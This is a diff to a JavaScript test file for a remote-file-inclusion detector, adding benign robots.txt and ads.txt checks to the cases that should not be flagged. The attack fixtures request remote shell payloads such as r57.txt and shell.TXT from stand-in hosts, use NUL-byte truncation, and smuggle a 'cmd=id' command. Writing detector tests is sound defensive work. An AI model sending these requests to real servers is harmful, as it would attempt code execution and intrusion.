@@ -181,7 +181,7 @@ describe('remote file inclusion on any parameter', () => {
     ['a NUL byte cutting off the extension', 'GET /main.php?lang=http://bad.example.net/tools/index%00 HTTP/1.1'],
     ['a text-file payload with a command after it', 'GET /modules.php?name=http://bad.example.net/id.txt?&cmd=id HTTP/1.1'],
     ['a text-file payload over FTP, no trailing ?', 'GET /x.php?q=ftp://198.51.100.9/r57.txt HTTP/1.1'],
-    ['an HTTPS text-file payload in a second parameter', 'GET /?a=1&b=HTTPS://bad.example.net/shell.TXT HTTP/1.1'],
+    ['an HTTPS text-file payload in a second parameter', 'GET /?a=1&b=HTTPS://bad.example.net/shell.TXT? HTTP/1.1'],
   ];
   for (const [name, request] of attempts) {
     it(`labels ${name} as file inclusion`, () => {
@@ -205,6 +205,8 @@ describe('remote file inclusion on any parameter', () => {
     ['a return URL that ends in a bare ? with no file name', 'GET /cart?return=https://shop.example.com/cart? HTTP/1.1'],
     ['WordPress redirect_to', 'GET /wp-login.php?redirect_to=https%3A%2F%2Fblog.example.com%2Fwp-admin%2F&reauth=1 HTTP/1.1'],
     ['a share link to a PDF', 'GET /share?u=https://www.example.com/files/report-2024.pdf HTTP/1.1'],
+    ['an SEO check of robots.txt', 'GET /seo/check?url=https://www.example.com/robots.txt HTTP/1.1'],
+    ['an ads.txt check', 'GET /seo/check?url=https%3A%2F%2Fwww.example.com%2Fads.txt HTTP/1.1'],
     [
       'an analytics beacon for a page left with an empty form query',
       'GET /matomo.php?idsite=1&rec=1&url=https%3A%2F%2Fwww.example.com%2Fsearch.php%3F HTTP/1.1',
